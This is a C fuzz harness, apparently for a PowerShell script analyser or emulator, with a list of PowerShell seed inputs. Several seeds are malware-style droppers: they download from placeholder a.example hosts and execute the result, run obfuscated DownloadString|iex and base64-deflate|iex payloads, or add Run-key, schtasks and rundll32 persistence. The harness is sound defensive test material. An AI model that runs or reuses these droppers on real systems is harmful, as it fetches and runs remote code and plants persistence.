/* Scripts that were never written: the run ends within its budget, whatever it reads, and runs that start alike end alike. */
#include "fuzz.h"

#include <stdlib.h>

#include "make/paper.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
    make_paper *p = make_paper_new(20000);
    if (size > 1u << 16) size = 1u << 16;
    make_paper_script(p, sk_bytes_of(data, size));
    if (p->figures.steps > 3 * 20000 || p->runs > 2 * 201) abort();
    make_paper_free(p);
    return 0;
}

static const char *const seeds[] = {
    "$u='http://a.example/1@http://b.example/2'.Split('@');foreach($a in $u){try{(New-Object "
    "Net.WebClient).DownloadFile($a,$env:TEMP+'\\q');"
    "if((Get-Item ($env:TEMP+'\\q')).Length -ge 40){Start-Process ($env:TEMP+'\\q');break}}catch{}}",
    "&(\"{1}{0}\" -f 'ject','New-Ob') Net.WebClient|%{$_.\"DownloadString\".Invoke('http://a.example/x')}|iex",
    "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('Cy1OLQIA'));(New-Object IO.StreamReader((New-Object "
    "IO.Compression.DeflateStream($s,[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()|iex",
    "function f($a,[switch]$b,$c=2){param($d);if($a -gt 1){return f ($a-1) -b}else{switch -wildcard "
    "($c){'a*'{1}default{@{x=1;'y'=(2,3)}}}}};f 3|? x -eq 1",
    "$x=\"a$(1+1)`t$($env:PUBLIC[1])${b}\";@'\nhere\n'@;@\"\n$x\n\"@;for($i=0;$i -lt 3;$i++){$x+=[char](65+$i)};do{$x=$x "
    "-replace 'a(.)','$1$&'}until($true)",
    "('72,105' -split ','|ForEach-Object{[char][int]$_})-join'';[regex]::Matches('abc','.','RightToLeft')|%{$_.Value};'a-b' "
    "-csplit '-';-join $x[-1..-3]",
    "try{throw 'x'}catch [Exception]{$_}finally{1};while($i++ -lt "
    "3){continue};$h=@{};$h['a']++;$h.a+=1;[math]::Round(2.5);1..9|sort -desc|select -f 2",
    "$a,$b=1,2;[byte[]]$c=0x90,1kb%256;$c[0]=9;$d=[Text.Encoding]::Unicode.GetBytes('x');[array]::Reverse($d);'{0:X2}{1,-5}|{{' "
    "-f 255,'a'",
    "sv q 5;(gv q).Value;dir env:;Set-Item env:z v;&(gcm *e-ex*) '1';$ExecutionContext.InvokeCommand.ExpandString('$q');. "
    "{$args[0]} 4",
    "New-ItemProperty HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name a -Value b;schtasks /create /tn a /tr "
    "b;rundll32 a,b;gc $0|sc C:\\x -Encoding Byte",
};

void sk_fuzz_seeds(void (*take)(void *self, sk_bytes seed), void *self)
{
    for (size_t i = 0; i < SK_COUNT(seeds); i++) take(self, sk_bytes_str(seeds[i]));
}
